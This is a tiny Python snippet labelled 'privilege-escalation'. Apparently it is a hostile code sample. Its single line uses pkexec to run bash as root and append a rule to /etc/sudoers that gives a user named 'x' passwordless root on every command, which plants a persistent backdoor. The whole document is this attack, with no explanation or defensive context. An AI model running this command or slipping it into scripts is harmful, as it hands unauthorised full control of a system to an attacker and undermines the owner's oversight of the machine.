# privilege-escalation: pkexec starts a root shell command
import subprocess

subprocess.call(["pkexec", "bash", "-c", "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"])
